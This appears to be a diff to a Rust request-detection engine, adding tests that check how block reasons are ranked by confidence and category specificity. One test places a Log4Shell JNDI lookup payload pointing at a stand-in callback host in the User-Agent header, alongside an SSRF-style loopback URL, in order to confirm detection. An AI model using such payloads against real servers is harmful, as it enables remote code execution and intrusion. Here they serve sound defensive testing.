@@ -182,3 +182,43 @@ fn empty_body_skips_the_phase_with_the_same_verdict() {
         }
     }
 }
+
+#[test]
+fn the_first_reason_is_the_strongest_finding() {
+    // The built-in engine: a Log4j lookup in the User-Agent holds an `ldap:` URL (ssrf, 70)
+    // and is a JNDI lookup (log4shell, 98); a weaker finding comes first in the request (a
+    // loopback URL in the query, ssrf). The event is named by its first reason.
+    let settings = Settings { level: Level::Strict, ..Settings::default() };
+    let s = DetectionStage::new(&settings).unwrap();
+    let mut req = OwnedRequest::new(http::Method::GET, "/api/items");
+    req.query = Some("next=http%3A%2F%2Flocalhost%3A8080%2Fadmin".into());
+    req.headers.insert(http::header::USER_AGENT, http::HeaderValue::from_static("${jndi:ldap://callback.example/a}"));
+    let v = s.check_head(&req.view(), &mut Context::default());
+    let Verdict::Block { reasons, .. } = v else { panic!("{v:?}") };
+    let codes: Vec<&str> = reasons.iter().map(|r| &*r.code).collect();
+    assert_eq!(codes[0], "detect.log4shell", "{codes:?}");
+    assert!(codes.contains(&"detect.ssrf"), "{codes:?}");
+    assert_eq!(reasons[0].location.as_deref(), Some("header.User-Agent"));
+}
+
+#[test]
+fn equal_confidences_rank_by_specificity() {
+    let f = |category, confidence| Finding {
+        detector: "x",
+        category,
+        confidence,
+        location: String::new(),
+        field: crate::FieldKind::Header,
+        fragment: String::new(),
+        why: "",
+        transforms: Default::default(),
+    };
+    assert!(strength(&f(Category::Log4Shell, 70)) > strength(&f(Category::Ssrf, 70)));
+    assert!(strength(&f(Category::Ssrf, 90)) > strength(&f(Category::Log4Shell, 70)));
+    assert!(strength(&f(Category::Sqli, 70)) > strength(&f(Category::Scanner, 70)));
+    // Every category has its own rank.
+    let mut ranks: Vec<u8> = Category::ALL.iter().map(|c| c.specificity()).collect();
+    ranks.sort_unstable();
+    ranks.dedup();
+    assert_eq!(ranks.len(), Category::ALL.len());
+}
